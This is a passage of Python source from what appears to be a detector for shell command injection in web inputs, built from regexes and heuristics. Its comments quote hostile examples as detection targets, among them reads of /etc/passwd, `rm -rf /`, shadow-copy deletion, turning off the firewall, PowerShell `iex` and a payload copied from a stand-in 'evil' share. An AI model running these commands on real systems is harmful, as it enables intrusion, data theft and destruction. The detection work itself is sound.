_PAYLOAD_ARG: Final = re.compile(
    r"/etc/|/proc/|/dev/(?:tcp|udp)/|/bin/|/root\b|\.ssh/|id_rsa|/var/www|/var/log/"
    r"|\b\d{1,3}(?:\.\d{1,3}){3}\b"
    r"|(?:^|[\s,])(?:sh|bash|whoami|ifconfig|uname)(?=[\s,]|$)"
    # find's actions that run a command on what it finds: find /etc -name passwd -exec cat {} +
    r"|\s-(?:exec|execdir|ok|okdir)\s+\S"
    # A dropper: a script fetched, or anything written to a world-writable directory.
    r"|://\S{0,200}\.(?:sh|py|pl|ps1|elf|bin|exe)\b|\s-o\s*/(?:tmp|var/tmp|dev/shm)/"
)
# ...or the shell's own syntax, out of single quotes, in which it is text: awk's program,
# `awk '{print $1}' prints whole line`, substitutes and runs nothing.
_ARGUMENT_SYNTAX: Final = re.compile(r"[|`$;&<>]")
_SINGLE_QUOTED_SPAN: Final = re.compile(r"'[^'\n]*'")
# Output written to a file, the redirection glued to the command's name: `;id>/tmp/x`,
# `;whoami>out` (`<` there is markup's: `& last</li>`). Not an amount compared: "Price;
# id>5"; nor, after a command that is also a word, one word preferred to another
# ("cat>dog", "more>less"), where a file is named with a path or an extension.
_GLUED_REDIRECT: Final = re.compile(r">{1,2}(?!\s*\$?\d)\s*([\w./~$-]+)")
_FILE_NAMED: Final = re.compile(r"[./~$]")
# A command that opens a value with its output written to a file named by its path, at
# once (`whoami > /tmp/out`): no amount is compared with a path.
_WRITTEN_TO_PATH: Final = re.compile(r"[ \t]*>{1,2}[ \t]*(?:~|\.{1,2})?/[\w.-]")
# Arguments are on the command's own line: the next line is a command of its own (a
# heading's underline is no option: "Links\n-----").
_LATER_ARG: Final = re.compile(r"(?:[ \t]+[\w.-]+){0,3}?[ \t]+(?:-{1,2}[a-z]|/|\$)")
# (An apostrophe between letters elides a word, as French does: "chef d'exploitation".)
_ANY_ARG: Final = re.compile(
    r"[ \t]+(?:[\w-]+\.[\w.-]+|\S*(?:[/:$\"=@]|(?<![^\W\d_])'|'(?![^\W\d_]))|[-+]|\d)"
)
# cmd.exe's switches after their slash: `/all`, `/c`, `/t`.
_CMD_SWITCH: Final = r"(?:[a-z?]|all|priv|groups|user|fo|list|query)"
# (And cmd.exe's switches and an address to fetch: `%0awget http://…`.)
_ARGS_AFTER: Final = re.compile(
    r"[ \t]+(?:-{1,2}[a-z]|/[\w.-]+/|\$|[<>|]|\.{1,2}/"
    r"|/" + _CMD_SWITCH + r"(?=\s|$)|[a-z][a-z0-9+.-]*://)"
)
# A shell's own options set on a line of a script (`set -euo pipefail`, `set +x`, `set -o
# noglob`): they print nothing and run nothing. (`set` alone prints the variables, the
# environment among them, as cmd.exe's does: a probe.)
_SET_OPTIONS: Final = re.compile(
    r"(?:[ \t]+[-+](?:[a-z]*o[ \t]+[a-z-]+|[a-z]+))+[ \t]*(?:[\r\n;]|$)"
)
# `;sleep 10;`, `|timeout 5`: the time-based probe of blind command injection.
_DELAY: Final = re.compile(r"\s+\d{1,6}(?:\.\d+)?[smhd]?\s*(?:[;&|`)\n#]|$)")
_WORD_ARG: Final = re.compile(r"[ \t]+[a-z]")
# What closes a command substitution.
_CLOSERS: Final = {"`": "`", "$(": ")"}
_PARENTHESIS_AFTER: Final = re.compile(r"[ \t]*\(")
# PowerShell's commands take an expression in parentheses: `;iex (New-Object …)`.
_PARENTHESIZED: Final = frozenset(("powershell", "pwsh", "iex", "iwr", "irm"))
# A block after a name, as Perl's `eval { … }` and `grep { … } @list` open one: to a shell,
# `{` there is a word, and the `}` that closes a statement in it a syntax error.
# (`time { id; }` times a group; `;{ls,-la}` is a brace expansion, 3021's.)
_BLOCK_AFTER: Final = re.compile(r"[ \t]+\{\s")
# Perl's list operators given a variable, then a comma: `chmod $perms, $file;`, `open $fh,
# '<', $path`. A shell's argument has no comma after its variable.
_LIST_AFTER: Final = re.compile(r"[ \t]+\$[a-z_]\w*,[ \t]")
# A version number, then a word: a program named in a sentence, not given an argument.
_VERSION_WORD: Final = re.compile(r"[ \t]+v?\d+(?:\.\d+){1,2}\s+[a-z]")
# A first argument that opens a quote nothing closes: "Kill 'em all" leaves a shell
# waiting for the rest of a command that starts the value.
_UNCLOSED: Final = re.compile(r"[ \t]+(['\"])(?!.*\1)", re.S)
# Arguments that are a format string's placeholders only: "Open %s", "Open '%s'" (a
# program's message as a translation service or a log takes it). A shell passes `%s` as
# it is, a name no payload gives.
_FORMAT_ONLY: Final = re.compile(
    r"(?:[ \t]+(['\"]?)%(?:\d+\$)?[-+ #0]?\d*(?:\.\d+)?(?:l{1,2}|h|z)?[sdiuxfgcp]\1[.:,]?)+\s*"
)
# A language or a tool, its version and words about it: "java 8 streams", "python 3
# subprocess interface", "mysql 8 features". A script or a file name has a dot or a
# slash; no interpreter runs a file named 8 with words for its arguments.
_VERSION_WORDS: Final = re.compile(r"[ \t]+v?\d+(?:\.\d+)*(?:[ \t]+[a-z][a-z-]*)+[ \t]*$")
# Any command's release and words about it: "curl 8.5.0 release notes", "bash 5.2
# changelog". (A dotted version of two or three numbers: not an address, `ping 10.0.0.1`.)
_RELEASE_WORDS: Final = re.compile(r"[ \t]+v?\d+(?:\.\d+){1,2}(?:[ \t]+[a-z][a-z-]*)+[.!]?[ \t]*$")
# A Debian changelog's heading, a package named as its program is: "git (1:2.23.0~rc1-1)
# unstable; urgency=low" (a parenthesis after a command's name, a shell's syntax error).
_CHANGELOG_HEADING: Final = re.compile(
    r"[ \t]+\([\w.:~+-]{1,80}\)(?:[ \t]+[\w-]{1,40}){1,8};[ \t]*urgency=[a-z]+"
)
# A program's version as it prints it and as a tool's User-Agent names it: "bash 5.2",
# "kubectl v1.29.0", "cargo 1.75.0 (1d8b05cdd 2023-11-20)", "java 17.0.9 2023-10-17".
# Not after a command a number or an address is the operand of: `sleep 4.5`, `ping 10.1`.
_VERSION_BANNER: Final = re.compile(
    r"[ \t]+v?\d+(?:\.\d+){1,2}"
    r"(?:[ \t]+(?:\([^()\n]{0,80}\)|\d{4}-\d\d-\d\d|[a-z][a-z-]*))*[ \t]*$"
)
_NUMBER_OPERAND: Final = frozenset(
    words(
        "sleep usleep timeout ping ping6 traceroute nc ncat netcat telnet curl wget dig host "
        "nslookup"
    )
)
# How far back a tag's `<` is looked for: a start tag's attributes (a long link) fit.
_TAG_REACH: Final = 2000
_SEPARATOR_CHAR: Final = re.compile(r"[;`\n\r|&$<>]")
# What opens a clause of a command line after prose: not a backquote, Markdown's inline
# code there ("…install it with `brew install brotli`.").
_OPENING_SEPARATORS: Final = (";", "|", "&", "$(")
_INLINE_SEPARATOR_CHAR: Final = re.compile(r"[;`|&$<>]")
# A system file or directory a command is given first, after its options and their numbers
# (`;cat /etc/passwd`, `; ls -la /root`, `; tail -n 1 /etc/passwd`): what a probe reads,
# whatever words are around it. Not a log: instructions tail them ("restart nginx && tail
# -f /var/log/nginx/error.log").
_SYSTEM_FILE_ARG: Final = re.compile(
    r"[ \t]+(?:-[\w-]+(?:[ \t]+\d+)?[ \t]+)*(?:/etc/|/proc/|/root\b|~?/\.ssh/|/home/\w+/\.)"
)
# What wipes a system: `rm -rf /`, `rm -rf ~`, `rm -rf /*`, `--no-preserve-root`.
_WIPE_ARG: Final = re.compile(
    r"[ \t]+(?:-[\w-]+[ \t]+)*(?:/\*?|~|--no-preserve-root)(?:[ \t;&|]|$)"
)
_LINE_END: Final = re.compile(r"[ \t]*(?:$|[\r\n])")
# An argument of a command (`_arguments_end`): one only a shell reads so (an option, a
# relative path, one from a variable, the root or a path in a system's directory or one of
# wildcards, cmd.exe's switch (`/t`), a drive's path or a Windows variable's, a
# redirection); a number, an address or a quoted string, which a sentence may end with too
# ("…; type 'yes'"); or a word. (An application's page is neither: "…; find /Account",
# "…; more /collections/summer".)
_SYSTEM_ROOT: Final = (
    r"(?:etc|bin|sbin|usr|tmp|var|dev|proc|sys|home|root|opt|lib\w*|boot|mnt|srv|run)"
)
_ARGUMENT: Final = re.compile(
    r"[ \t]+(?:(-{1,2}\w[\w-]*(?:=\S*)?|(?:~|\.{1,2}|\$\{?\w+\}?)/\S*"
    # An arithmetic expansion in a word (commix's `echo TZNTMF$((54+73))`): a shell's own.
    r"|[\w.,-]*\$\(\([^\n]{0,80}?\)\)(?:\$\([^()\n]{0,80}\)|\S)*|/(?:"
    + _SYSTEM_ROOT
    + r"\b\S*|[\w.-]*[?*\[][\w.?*\[\]-]*/\S*"
    r"|" + _CMD_SWITCH + r"?(?=[\s;&|]|$))"
    r"|[a-z]:\\\S*|%\w+%\S*"
    r"|\d?[<>]{1,2}&?\S*)|([\d.:]+|'[^'\n]*'|\"[^\"\n]*\")|([\w.,-]+))"
)
# A separator, then the word after it (`_separated_expansion`); not a line break: a
# changelog's line may open with `{fetch,upload}-pack:`.
_AFTER_SEPARATOR: Final = re.compile(r"[;&|][ \t]*(?=[{$/a-z])")
_SHELL_WORD: Final = re.compile(r"[^\s;&|]+")
_SEPARATORS_LOOKED_AT: Final = 64  # of a text, at most
# `${IFS}` glued to a word on either side: `${IFS}id`, `cat${IFS}`.
_GLUED_IFS: Final = re.compile(r"\$\{ifs\}[\w/$]|\w\$\{ifs\}")
# A command's name as a word of a line, and what else makes a line a command line's
# (`_command_before`).
_NAME_BEFORE: Final = re.compile(r"(?<![\w.-])(" + _DISTINCT + r")(?=[ \t])")
_SYNTAX_BEFORE: Final = re.compile(r"[\"\\`=]|\$[a-z_{(]|^[ \t]*'", re.M)
_LINE_COMMAND: Final = re.compile(r"[ \t]*(?:[$#>%][ \t]+)?(?:" + _DISTINCT + r")(?=[ \t])")
# What ends a command's arguments: the line, a separator, a substitution's end, a comment,
# rich text's markup (`…<br>; ls -la</div>`).
_ARGUMENTS_DONE: Final = re.compile(r"[ \t]*(?:$|[\r\n;&|`)]|#|</?[a-z])")
# (The line's end, or a comment that runs to it: `; sleep 10 #words the shell skips`.)
_SECONDS_END: Final = re.compile(r"[ \t]+\d+(?:[ \t]*(?:$|[\r\n])|[ \t]+#)")
_HOST_END: Final = re.compile(
    r"(?:[ \t]+-\w+(?:[ \t]+\d+)?)*[ \t]+[\w-]+(?:\.[\w-]+)+(?:[ \t]*(?:$|[\r\n])|[ \t]+#)"
)
# A file name a command reads: `; cat notes.txt`, `;head .env`.
_FILE_ARG: Final = (
    r"\s+[\w.-]*\.(?:txt|log|conf|cfg|ini|env|php|sh|py|pl|rb|js|json|xml|ya?ml|key|pem|"
    r"db|sqlite|sql|bak|old|passwd|shadow|htaccess|htpasswd|history|bashrc|profile)\b"
)
# Output sent to a file a few words on: `; echo pwned > /tmp/x`, `> $HOME/x`. Not to an
# amount: "50% off & free shipping > $50" compares prices; nor along a menu's path,
# "; go to Settings > Privacy > Cookies", whose target goes on to another.
_REDIRECT_ARG: Final = (
    r"(?:\s+[\w.-]+){1,3}\s*>>?\s*(?:[/~.a-z_](?![\w.-]*[ \t]+>[ \t]*\w)|\$[a-z_{])"
)
_ARGS_TAIL: Final = re.compile(_ARGS + r"|" + _FILE_ARG + r"|" + _REDIRECT_ARG)
# A line that is one argument for a command: an address, a host or a file name, a number.
_ARGUMENT_LINE: Final = re.compile(r"\s*(?:[\w:-]+(?:\.[\w:-]+)+|\d+)\s*")
# A word alone on its line, and the points whose values have one line to a person: the
# request target's and the headers' (a cookie is a header).
_WORD_LINE: Final = re.compile(r"\s*[\w.-]{1,40}\s*")
_ONE_LINE: Final = frozenset(("query", "path", "header", "cookie"))
# A line of words before a probe's, as a search box or a field holds one (`John Smith%0aid`).
_TEXT_LINE: Final = re.compile(r"[^\n]{1,200}\n?")
_ENDS: Final = re.compile(r"\s*(?:$|[;&|`)$]|#(?:\s|$))")
# Commands that are a probe with no argument at all: `;id;`, `|ls`. Any other name alone
# between separators is a word in a list ("python; java; go").
_BARE: Final = _RECON | frozenset(
    words("id ls dir pwd ps who uname env printenv set hostname tasklist uptime history ll ver")
)
# Windows' administration tools whose first argument is a word, a verb or an object:
# `& wmic shadowcopy delete`, `& netsh advfirewall set allprofiles state off`.
_VERB_TOOLS: Final = frozenset(
    words(
        "wmic netsh wevtutil vssadmin bcdedit schtasks diskshadow dnscmd esentutl odbcconf "
        "certutil bitsadmin"
    )
)
# The fetchers, whose one word to the end of the command is the host to fetch from:
# `|$u wget test` (CRS' probe); "git; curl or wget" names them.
_FETCHERS: Final = frozenset(words("wget curl"))
_HOST_ALONE: Final = re.compile(r"[ \t]+[\w.-]+[ \t]*(?:$|[;&|\n`)])")


# Names that are not English words but still come in lists of languages and tools.
_LISTED: Final = frozenset(
    words(
        "python python2 python3 perl ruby php node nodejs java javac go lua rustc cargo gcc "
        "clang docker kubectl git svn npm npx pip pip3 gem make mysql psql sqlite3 mongo redis-cli"
    )
)


# Words that make a command line a question about it, a search: "grep -r recursive search",
# "chmod 777 vs 755", "rm -rf permission denied", "base64 -d example". A probe's arguments
# are files, hosts, numbers and patterns, not these.
_QUERY_WORD: Final = re.compile(
    r"(?:^|\s)(?:vs|versus|examples?|explained|meaning|means?|how|what|why|when|which|not"
    r"|errors?|failed|fails|denied|found|working|works|command|commands|syntax|usage"
    r"|tutorial|guide|equivalent|alternative|difference|does|doesn't|isn't|linux|ubuntu"
    r"|windows|macos|mac|in|for|with|without|the|and|or|to|of|on|is|are|but|no|too|only"
    # ...or tells what it did: "grep -r prints nothing", "tail -f hangs forever", "ls -a
    # too slow", "cut -d, -f2 gives error". No probe describes its own behaviour.
    r"|nothing|anything|stuck|slow|slowly|hangs?|hanging|forever|freezes|timeout|running"
    r"|keeps|prints?|returns?|shows?|gives|takes|asks|changes|skips?|ignores?|ignore"
    r"|output|outputs|empty|wrong|instead|correctly|properly|recursively|exclude|case"
    r"|problem|issue|help)"
    # (A word's end, not a host's label: `ping -c 4 example.com` asks nothing.)
    r"(?=[\s?,!]|\.(?:\s|$)|$)"
    # ...or a sentence in Chinese, Japanese or Korean, whose words no blanks part: "ls -la
    # の結果を貼ります" (here is what ls -la printed), "ls -la 的结果如下".
    r"|(?:^|\s)[\u3040-\u30ff\u3400-\u9fff\uac00-\ud7af]{2}"
)


# A parenthesis that a word and a blank open, on a line a shell reads as a command line; the
# words that may stand before a command's group leave it one (`if (cd / && make)`).
# (A word of any characters but a shell's operators, quotes and expansions: nginx's `if
# ($http_user_agent ~* (curl|wget))` opens its group after `~*`.)
# (A word a C++ declaration's `&` or `*` opens too, the reference or pointer it returns:
# `AnalysisUsage &addRequiredID(char &ID);`, which a shell cannot parse either.)
_WORD_PARENTHESIS: Final = re.compile(
    r"(?<!\S)[&*]*([^\s;&|()<>'\"`$!{}\\][^\s;&|()<>'\"`$]*)[ \t]*\("
)
_COMMENT_LINE: Final = re.compile(
    r"[ \t]*#(?:#*(?:[ \t]|$)|[ \t]*(?:define|undef|if|ifdef|ifndef|elif|else|endif|include"
    r"|pragma|error)\b)"
)
_BEFORE_GROUP: Final = frozenset(
    words("if elif while until then do else time in function coproc select case for")
)
_GROUP_REACH: Final = 200  # characters back from a separator to the parenthesis


def _grouped_after_word(text: str, at: int) -> bool:
    """Whether the separator at `at` is in a parenthesis that a word opened a little before
    it on its line, after a blank or glued to it: a cron job as syslog records it,
    `CRON[42]: (root) CMD (cd / && run-parts --report /etc/cron.hourly)`, or a C++
    declaration's reference parameter, `Base(char &ID);`. A shell stops at that
    parenthesis, a syntax error, and runs nothing of the line (an array's `x=(a;id)` and
    an extended glob's `@(a|id)` too). Nothing is quoted or expanded from the
    word to the separator, so that both are read alike whatever quotes a command line
    puts the value in: where the parenthesis is quoted, so is the separator."""
    start = max(text.rfind("\n", 0, at) + 1, at - _GROUP_REACH)
    head = text[start:at]
    for opened in _WORD_PARENTHESIS.finditer(head):
        rest = head[opened.start() :]
        if (
            opened.group(1) not in _BEFORE_GROUP
            and _still_open(head, opened.end())
            and not any(char in rest for char in "'\"`$")
        ):
            return True
    return False


def _comment_line(text: str, at: int) -> bool:
    """Whether `at` is on a line that a `#` opens (`_COMMENT_LINE`): a comment's, or C's
    preprocessor's (`#define KEY(id) (0xfd00|id)`), which a shell takes for a comment
    whole, and no payload is."""
    return _COMMENT_LINE.match(text, text.rfind("\n", 0, at) + 1) is not None


def _still_open(head: str, start: int) -> bool:
    """Whether a parenthesis opened just before `start` of `head` is still open at its end:
    pairs within it close their own (`return (a->id() == &ID)`), not it."""
    depth = 0
    for char in head[start:]:
        if char == "(":
            depth += 1
        elif char == ")":
            depth -= 1
            if depth < 0:
                return False
    return True


def _unparsable(text: str, start: int) -> bool:
    """Whether a shell stops at a syntax error on the line of `text` from `start`, and runs
    none of it: a call of another language out of quotes in an argument (Python's `df =
    pd.read_csv('x')` starts with `df`), a parenthesis after a name, where only `$(`, a
    glob's `@(` and the like or an array's `=(` open one. (One after a blank is left to
    read: PHP's `exec /*comment*/ ()`.)"""
    quote = ""
    previous = ""
    for char in text[start:]:
        if char == "\n" and not quote:
            return False
        if quote:
            if char == quote:
                quote = ""
        elif char in "'\"":
            quote = char
        elif char == "(" and (previous.isalnum() or previous in "_.'\"") and previous:
            return True
        previous = char
    return False


# An option that hands the command code to run (`bash -c`, `perl -e`, `nc -e`), to what
# runs code so: a shell, an interpreter, netcat, an editor's command, a database client.
# After another command it is an option of that command's: `ping -c 4`, `gcc -c`,
# `ssh-keygen -C "me@example.com"`.
_RUN_OPTION: Final = re.compile(r"(?:^|[\s,])-[ce](?=[\s,]|$)")
_CODE_RUNNERS: Final = frozenset(
    (
        *("sh", "bash", "zsh", "dash", "ksh", "csh", "tcsh", "fish", "ash", "busybox", "su"),
        *("python", "python2", "python3", "perl", "ruby", "node", "nodejs", "php", "lua"),
        *("tclsh", "nc", "ncat", "netcat", "socat", "xterm", "vi", "vim", "nvim", "ex"),
        *("psql", "mysql", "sqlite3"),
    )
)


# Two command lines compared, as a search asks: "df -h vs uname -a", "kill -9 versus
# kill -15". No payload compares.
_COMPARED: Final = re.compile(r"\s(?:vs\.?|versus)\s")


def _probe_tail(tail: str, name: str = "") -> bool:
    """Whether the arguments after a command that starts a value are a probe's: a few
    words that do not ask about the command (`_QUERY_WORD`), or a payload's reach (see
    _PAYLOAD_ARG, `_ARGUMENT_SYNTAX`, and `_RUN_OPTION` when `name` runs code or is unknown)
    however many there are; not another command line it is compared with (`_COMPARED`)."""
    if _COMPARED.search(tail):
        return False
    if (
        _PAYLOAD_ARG.search(tail)
        or _ARGUMENT_SYNTAX.search(_SINGLE_QUOTED_SPAN.sub("''", tail) if "'" in tail else tail)
        or ((not name or name in _CODE_RUNNERS) and _RUN_OPTION.search(tail))
    ):
        return True
    return len(spaced(tail).split()) <= _PROBE_WORDS and not _QUERY_WORD.search(tail)


# Of the commands that are words, those that do something of use with no argument: recon
# (`who`, `w`, `last`, `route`, `mount`, `export`) or harm (`reboot`).
_USEFUL_ALONE: Final = _BARE | frozenset(
    words("w last free export alias route mount halt reboot wall top")
)
# The working directory substituted into a path or a volume's mapping: `$(pwd)/bin`.
_PATH_FROM_HERE: Final = re.compile(r"\s*\)[/:]")
# A substitution closed right after the name it runs.
_SHUT: Final = {"`": re.compile(r"\s*`"), "$(": re.compile(r"\s*\)")}
# Commands that change nothing without the files or the process they are given: one
# substituted with options alone (`` `chown -R` ``, `$(kill -9)`) fails, a tool named in
# inline code ("like `chown -R`", "use `tar -xzf` instead").
_OPERAND_NEEDED: Final = frozenset(
    words("chown chmod chgrp rm rmdir cp mv ln mkdir touch kill tar")
)
_OPTIONS_SHUT: Final = {
    closer: re.compile(r"(?:[ \t]+[-+][\w-]{1,30}){1,6}[ \t]*" + re.escape(_CLOSERS[closer]))
    for closer in _CLOSERS
}
# Commands that text substitutes by name as a placeholder, not a word of the language:
# a command's `$(cmd)` (among the words, `|cmd` would be none). A name with a capital is
# a Makefile's variable too (`$(MAKE)`, `$(VER)`), a reference in reStructuredText or a
# type in inline code (`` `Rc`s ``): commands' names are in lower case.
_PLACEHOLDERS: Final = frozenset(("cmd",))
# Names in a list of alternatives: "python | java | go", "<code>mysql | postgres</code>".
_ALTERNATIVES: Final = re.compile(r"\s+\|\s*[\w.-]+\s*(?:\||</|[,.)\]]?\s*$)")


# Where V8 names a frame of a stack trace that has no function: a script, its line and
# column, alone on the line (`    at /app/dist/server.js:120:15`). `at` takes a time.
_SCRIPT_FRAME: Final = re.compile(r"[ \t]+[^\s()]+:\d+:\d+[ \t]*\{?[ \t]*(?:$|[\r\n])")


# A drive, a variable or a share (`\\host\share`: folded shell obfuscation leaves a
# backslash of its two).
_WINDOWS_PATH_ARG: Final = re.compile(r"\s+(?:[a-z]:\\|%\w+%|\\\\?\w)")
# cmd.exe's commands on files that are English words: & copy \\evil\share\x.exe %TEMP%
_WINDOWS_FILE_WORDS: Final = frozenset(("type", "copy", "expand", "replace"))


_PS_OPTIONS: Final = re.compile(r"\s+[aefluwx]{2,5}\b")
# vi's commands given on its command line, `+cmd` or `-c cmd`, that run a shell's: `:!id`,
# `+silent !whoami` (GTFOBins: the editor a sudo rule allows is a shell).
_EDITORS: Final = frozenset(("vi", "vim", "ex"))
_EDITOR_SHELL: Final = re.compile(
    r"[^\n;|&]{0,80}?\s(?:\+|-c\s*)['\"]?:?(?:silent!?[\\\s]*)?\\?!\s*[\w/$]"
)
# A random marker of letters and digits, alone or before another, as a scanner echoes one
# to find it in the response (Burp's `|echo xkjd5v7j0r hbx3hwjxqc||a #`).
_ECHO_MARKER: Final = re.compile(
    r"[ \t]+(?=[a-z]*\d)(?=\d*[a-z])[a-z0-9]{6,16}(?:[ \t]+[a-z0-9]{6,16})?\s*(?:$|[;&|`#)])"
)


# A word or two echoed to the end of the value: `127.0.0.1;echo vulnerable`.
_BLANK: Final = re.compile(r"\s*")
_ECHOED_WORDS: Final = re.compile(r"[ \t]+\w{1,32}(?:[ \t]+\w{1,32})?[ \t]*(?:$|[;&|`#])")


# Probes that are no English word, which a line of a sentence may be ("Thanks.%0aps"); `env`
# is code's word, not a sentence's (wapiti's `abc%0aenv;`).
_NO_WORD_PROBES: Final = frozenset(("id", "ls", "env")) | (_BARE - _WORDLIKE)


def _probe_on_next_line(text: str, start: int, name: str, tail: str, one_line: bool) -> bool:
    """`%0aid`, `127.0.0.1%0aid`, `1%0asleep 5`: a probe alone on the line after nothing or
    an argument; in a value of one line to a person (`one_line`: the target, a header),
    after a word too (`test%0aid`), if the probe is no English word, and after a line of
    words if its name is none (`John Smith%0aid`; "Step 1%0asleep 5" is a list)."""
    bare = name in _BARE and _ENDS.match(tail) is not None
    if not (bare or _delayed(name, tail) or _probe_shaped(name, tail)):
        return False
    return (
        start == 0
        or _ARGUMENT_LINE.fullmatch(text, 0, start) is not None
        or (
            one_line
            and (name in _NO_WORD_PROBES or not bare)
            and _WORD_LINE.fullmatch(text, 0, start) is not None
        )
        or (
            one_line
            and name in _NO_WORD_PROBES
            and _TEXT_LINE.fullmatch(text, 0, start) is not None
        )
    )


def _echo_after_argument(text: str, start: int, name: str, tail: str, after_word: bool) -> bool:
    """An echo of a word or two after a separator that only an argument (an address, a
    number) or nothing comes before, or one word (`after_word`: a line break in a value of
    one line): what a value's whole input is when a scanner asks whether a command ran
    (`1|echo vulnerable`). In a sentence, words come before it."""
    while start and text[start - 1] in "|&":
        start -= 1  # the first of `||`, `&&`
    return (
        name == "echo"
        and _ECHOED_WORDS.match(tail) is not None
        and (
            _BLANK.fullmatch(text, 0, start) is not None
            or _ARGUMENT_LINE.fullmatch(text, 0, start) is not None
            or (after_word and _WORD_LINE.fullmatch(text, 0, start) is not None)
        )
    )


def _probe_shaped(name: str, tail: str) -> bool:
    """Whether a word's tail is a probe's, whatever the word means in a sentence: BSD's
    options, without a dash (`;ps aux`), a scanner's marker to find in the response
    (`|echo xkjd5v7j0r`), or an editor's command that runs a shell's (`;vim x +'!id'`)."""
    return (
        (name == "ps" and _PS_OPTIONS.match(tail) is not None)
        or (name == "echo" and _ECHO_MARKER.match(tail) is not None)
        or (name in _EDITORS and _EDITOR_SHELL.match(tail) is not None)
    )


def _delayed(name: str, tail: str) -> bool:
    """`;sleep 10`, `|timeout 5`: the time-based probe of blind command injection."""
    return name in ("sleep", "timeout") and _DELAY.match(tail) is not None


def _tail_fits(name: str, tail: str) -> bool:
    """Whether what follows command `name` is what a shell would get: arguments, or the
    end of the command for a probe that needs none. A language or a tool followed by a
    pipe and one more name is one of a list of names (a pipe into one runs it without a
    script, waiting on its input)."""
    if name == "at" and _SCRIPT_FRAME.match(tail):
        return False  # `at /app/server.js:120:15`: a line of a JavaScript stack trace
    if _probe_shaped(name, tail):
        return True
    if name in _WINDOWS_FILE_WORDS:
        # cmd.exe's `cat` and `cp`, given a Windows path: "& type /quit to leave" is an
        # instruction, "cut & copy / paste" a menu's.
        return _WINDOWS_PATH_ARG.match(tail) is not None
    if _ARGS_TAIL.match(tail) and not (name in _LISTED and _ALTERNATIVES.match(tail)):
        return True
    if name in _RECON and _LINE_END.match(tail):
        return True  # `&& whoami` at a line's end, words on the next: no word, a probe
    bare = name in _BARE or (name not in _WORDLIKE and name not in _LISTED)
    return bare and _ENDS.match(tail) is not None


# A name, then a colon between blanks and one more name that ends an expression: a
# conditional's branches (its question, ` ? `, before them on the line), in code.
_TERNARY_ELSE: Final = re.compile(r"[ \t]+:[ \t]+[\w.-]{1,40}\s*(?:[,);]|$)")
_TERNARY_QUESTION: Final = re.compile(r"[\w$.)\]][ \t]+\?[ \t]")
# The .NET namespaces Json.NET gadgets come from; an API's own $type names its own classes.
_DOTNET_TYPE: Final = re.compile(r"\s*(?:system|microsoft)\.[\w.]+\s*(?:,|$)")
# A long option before a program's path: the path is its argument, and the line another
# program's (`update-alternatives … --install /usr/bin/vi vi /usr/bin/vim.basic 30`).
_LONG_OPTION_BEFORE: Final = re.compile(r"--[a-z][\w-]*\s\Z")
# A program's path at a value's start or after a blank or a separator. (From the slash,
# what is before it looked back at: for `re` to skip from one slash to the next.)
_ABSOLUTE: Final = re.compile(r"/(?<![^\s;|&`(]/)(?:usr/)?(?:local/)?s?bin/[a-z][\w.-]*\b")
_FILE_RULES: Final = RuleSet(RULES[-1])
_CODE: Final = tuple(rule for rule in RULES[3:-1] if rule.pattern is not None)
_CODE_RULES: Final = RuleSet(*_CODE)
# In prose, PHP, Node.js and Python calls and globs are code being discussed, and so are
# a program's options ("--rsh-command=COMMAND Use COMMAND instead of rsh…", a manual's).
# So are the names of Java's packages (a developer asking about org.apache.commons.io).
_PROSE_UNSAFE: Final = frozenset(
    (3005, 3010, 3011, 3013, 3016, 3020, 3021, 3023, 3024, 3025, 3029, 3030, 3031, 3032, 3038)
)
_CODE_ONLY_RULES: Final = RuleSet(*(r for r in _CODE if r.id in _PROSE_UNSAFE))
_PROSE_RULES: Final = RuleSet(*(r for r in _CODE if r.id not in _PROSE_UNSAFE))
# A document of several lines may be a script shown whole, whose functions open as any do.
_DOCUMENT_CODE_ONLY: Final = RuleSet(*(r for r in _CODE_ONLY_RULES.rules if r is not R_ANONYMOUS))
_DOCUMENT_RULES: Final = RuleSet(*(r for r in _CODE if r is not R_ANONYMOUS))
# So may a minified script (`minified`).
# A Java import, of a class or a package's (`import org.apache.commons.io.FileUtils;`).
_IMPORT: Final = r"\bimport\s+(?:static\s+)?(?:[a-z_]\w*\.)+(?:[a-z_$][\w$]*|\*)\s*;"
# A value that is one, or Maven's coordinates of a library as a build file names them
# (Gradle's `implementation 'org.apache.commons:commons-text:1.11.0'`), or a package URL
# as a software bill of materials does (`pkg:maven/org.apache.commons/commons-lang3@3.12.0
# ?type=jar`, CycloneDX's and SPDX's): packages named.
_JAVA_DECLARATION: Final = re.compile(
    r"\s*(?:"
    + _IMPORT
    # (The name of what takes the coordinates possessive: a word of 64,000 letters before
    # a colon was tried split at each of them, 4.7 s.)
    + r"|(?:[a-z]\w*+\s*\(?\s*)?['\"]?[a-z][\w.-]*:[\w.-]+(?::[\w.$-]+)?['\"]?\s*\)?"
    + r"|pkg:[a-z]+/[\w.%/+-]+(?:@[\w.%+-]+)?(?:\?[\w.=&%-]*)?(?:#[\w./-]*)?)\s*"
)
# Java source shown whole, a method or its Javadoc, or a stack trace: the platform's classes
# are its words. A gadget names one as a whole value (a type to deserialise), not in a file
# of code.
_JAVA_NAMES: Final = frozenset((3023, 3029, 3031))
# A stack trace printed whole: its exception's message names classes as it likes
# (`java.lang.ArrayStoreException: java.lang.Integer`).
_TRACE: Final = r"\n[ \t]*at [\w$./]+" + _FRAME_CALL
_JAVA_SOURCE: Final = searchable(
    re.compile(
        r"\b(?:public|private|protected|static|final|abstract|synchronized)\s+[\w<>?,.\[\] ]{1,120}"
        r"\(|/\*\*|\*[ \t]+@(?:param|return|throws|see|since)\b|\bimport\s+java\."
        r"|" + _IMPORT + r"|<groupid>|" + _TRACE
    )
)
# A crash report too short to be a document: an exception's first line, as a log line or
# an error field holds it (`java.lang.ClassCastException: class java.lang.String cannot be
# cast to class java.lang.Integer`), or a few lines with a frame.
_THROWN: Final = re.compile(
    r"\s*(?:caused by: |exception in thread \"[^\"\n]{0,80}\" )?(?:[a-z_$][\w$]*\.)+[\w$]*"
    r"(?:exception|error)(?::\s|$)"
)
_JAVA_TRACE: Final = re.compile(_TRACE)
# JavaScript source shown whole, a module or a function of one: Node.js's process, require()
# and prototypes are its words, as a Java file's classes are, and so are calls PHP's would
# look like: a module's factory called at once (`require('debug')('express')`), `${}(` in a
# regular expression. An injection is a line of code in a value, not a file of it.
_JS_SOURCE: Final = searchable(
    re.compile(
        r"['\"]use strict['\"]|\bmodule\.exports\s*=|\bexport\s+(?:default|const|function|class)\b"
        r"|\b(?:const|let|var)\s+(?:\{[\w\s,:]{1,200}\}|\w+)\s*=\s*require\s*\("
